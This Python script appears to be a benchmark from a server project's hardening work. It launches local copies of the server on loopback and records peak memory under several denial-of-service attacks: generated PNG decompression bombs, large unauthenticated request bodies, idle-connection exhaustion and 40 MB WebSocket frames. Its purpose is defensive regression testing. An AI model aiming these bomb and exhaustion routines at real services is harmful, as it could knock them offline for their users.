#!/usr/bin/env python3
"""Peak memory of the server under the attacks of the hardening report (issue 15).

Usage: scripts/bench-attacks.py BINARY [BINARY ...]

Each attack runs against a fresh server process (the given `vestige` binary, on 127.0.0.1, with a
temporary data directory) and prints the process's peak resident memory (VmHWM) and what the
attacker saw. Give the binary built before the fix and the current one to measure both in the
same run. Everything stays on loopback; every loop is bounded.
"""
import base64, json, os, resource, socket, struct, subprocess, sys, tempfile, threading, time, urllib.request, zlib


def png_bomb(variant: int) -> bytes:
    """A 7000x7000 16-bit RGBA PNG: 392 MB of pixels in a few hundred KB."""
    w = h = 7000
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    ihdr = struct.pack(">IIBBBBB", w, h, 16, 6, 0, 0, 0)
    z = zlib.compressobj(1)
    parts = []
    for y in range(h):
        band = bytes([(y >> 8) & 0xFF]) * 8
        row = b"\x00" + band * w
        parts.append(z.compress(row))
    parts.append(z.flush())
    text = chunk(b"tEXt", b"variant\x00" + str(variant).encode())
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + text + chunk(b"IDAT", b"".join(parts)) + chunk(b"IEND", b"")


class Server:
    def __init__(self, binary: str, open_files: int | None = None):
        self.data = tempfile.mkdtemp(prefix="vestige-attack-")
        def limits():
            if open_files:
                resource.setrlimit(resource.RLIMIT_NOFILE, (open_files, open_files))
        self.log = open(os.path.join(self.data, "server.log"), "w+")
        self.proc = subprocess.Popen(
            [binary, "--bind", "127.0.0.1:0", "--data-dir", self.data],
            stdout=self.log, stderr=subprocess.STDOUT, preexec_fn=limits, env={**os.environ, "RUST_LOG": "info", "NO_COLOR": "1"},
        )
        deadline = time.time() + 60
        self.addr = None
        while time.time() < deadline and not self.addr:
            time.sleep(0.1)
            with open(self.log.name) as f:
                for line in f:
                    if "listening on http://" in line:
                        self.addr = line.split("listening on http://")[1].split()[0]
        if not self.addr:
            raise SystemExit(f"{binary} did not start")
        self.host, port = self.addr.rsplit(":", 1)
        self.port = int(port)

    def peak_mib(self) -> float:
        with open(f"/proc/{self.proc.pid}/status") as f:
            for line in f:
                if line.startswith("VmHWM:"):
                    return int(line.split()[1]) / 1024
        return 0.0

    def log_has(self, text: str) -> bool:
        with open(self.log.name) as f:
            return text in f.read()

    def room(self, name: str) -> str:
        req = urllib.request.Request(f"http://{self.addr}/api/rooms", data=json.dumps({"name": name}).encode(),
                                     headers={"content-type": "application/json"})
        return json.load(urllib.request.urlopen(req, timeout=10))["join_token"]

    def stop(self):
        self.proc.kill()
        self.proc.wait()


def put(addr: str, path: str, body: bytes, out: list, timeout: float = 120):
    host, port = addr.rsplit(":", 1)
    try:
        s = socket.create_connection((host, int(port)), timeout=timeout)
        s.sendall(f"PUT {path} HTTP/1.1\r\nhost: {addr}\r\ncontent-length: {len(body)}\r\nconnection: close\r\n\r\n".encode())
        try:
            s.sendall(body)
        except OSError:
            pass
        answer = s.recv(64).decode(errors="replace")
        out.append(answer.split(" ")[1] if " " in answer else "closed")
        s.close()
    except OSError as err:
        out.append(type(err).__name__)


def run_threads(targets):
    threads = [threading.Thread(target=t) for t in targets]
    for t in threads:
        t.start()
    for t in threads:
        t.join()


def attack_png(binary: str, bombs: list[bytes]):
    server = Server(binary)
    token = server.room("bombs")
    before = server.peak_mib()
    out: list = []
    import hashlib
    run_threads([lambda b=b: put(server.addr, f"/api/rooms/bombs/photos/{hashlib.sha256(b).hexdigest()}?token={token}", b, out) for b in bombs])
    time.sleep(5)
    print(f"  8 PNG bombs ({len(bombs[0]) // 1024} KiB each, 7000x7000 16-bit): answers {sorted(out)}, peak RSS {before:.0f} -> {server.peak_mib():.0f} MiB")
    server.stop()


def attack_unchecked_bodies(binary: str):
    server = Server(binary)
    before = server.peak_mib()
    out: list = []
    body = b"\0" * (32 << 20)
    run_threads([lambda: put(server.addr, f"/api/rooms/nope/photos/{'a' * 64}", body, out) for _ in range(20)])
    print(f"  20 x 32 MiB bodies to a missing room, no token: answers {sorted(set(out))}, peak RSS {before:.0f} -> {server.peak_mib():.0f} MiB")
    server.stop()


def attack_connections(binary: str):
    server = Server(binary, open_files=1024)
    before = server.peak_mib()
    socks = []
    for _ in range(1100):
        try:
            s = socket.socket()
            s.settimeout(2)
            s.bind(("127.0.0.5", 0))
            s.connect((server.host, server.port))
            socks.append(s)
        except OSError:
            break
    time.sleep(1)
    started = time.time()
    try:
        h = socket.socket()
        h.settimeout(5)
        h.bind(("127.0.0.9", 0))
        h.connect((server.host, server.port))
        h.sendall(f"GET /health HTTP/1.1\r\nhost: {server.addr}\r\nconnection: close\r\n\r\n".encode())
        health = h.recv(64).decode(errors="replace").split(" ")[1]
    except OSError as err:
        health = type(err).__name__
    took = time.time() - started
    emfile = server.log_has("Too many open files")
    print(f"  1,100 idle connections from one address (open-file limit 1024): /health from another address {health} in {took * 1000:.0f} ms, "
          f"'Too many open files' in the log: {emfile}, peak RSS {before:.0f} -> {server.peak_mib():.0f} MiB")
    for s in socks:
        s.close()
    server.stop()


def attack_ws_frames(binary: str):
    server = Server(binary)
    token = server.room("frames")
    before = server.peak_mib()
    sent = []
    def one():
        try:
            s = socket.create_connection((server.host, server.port), timeout=10)
            s.sendall((f"GET /ws/rooms/frames?token={token} HTTP/1.1\r\nhost: {server.addr}\r\nconnection: upgrade\r\nupgrade: websocket\r\n"
                       "sec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n").encode())
            s.recv(1024)
            hello = json.dumps({"type": "hello", "version": 1, "name": "Bot"}).encode()
            s.sendall(bytes([0x81, 0x80 | 126]) + struct.pack(">H", len(hello)) + b"\0\0\0\0" + hello)
            payload = b'{"type":"upload_image","name":"x.jpg","data":"' + b"A" * (40_000_000 - 60) + b'"}'
            s.sendall(bytes([0x81, 0x80 | 127]) + struct.pack(">Q", len(payload)) + b"\0\0\0\0")
            total = 0
            view = memoryview(payload)
            s.settimeout(3)
            while total < len(payload):
                try:
                    total += s.send(view[total:total + (1 << 20)])
                except OSError:
                    break
            sent.append(total)
            time.sleep(2)
            s.close()
        except OSError:
            sent.append(0)
    run_threads([one for _ in range(8)])
    print(f"  8 x 40 MB upload_image frames: {sum(sent) // 1_000_000} MB accepted by the server's sockets, peak RSS {before:.0f} -> {server.peak_mib():.0f} MiB")
    server.stop()


def main():
    if len(sys.argv) < 2:
        raise SystemExit(__doc__)
    print("making the PNG bombs…", flush=True)
    bombs = [png_bomb(i) for i in range(8)]
    load = os.getloadavg()[0]
    print(f"{time.strftime('%Y-%m-%d %H:%M UTC', time.gmtime())}, load {load:.1f}")
    for binary in sys.argv[1:]:
        print(binary)
        attack_png(binary, bombs)
        attack_unchecked_bodies(binary)
        attack_connections(binary)
        attack_ws_frames(binary)


if __name__ == "__main__":
    main()
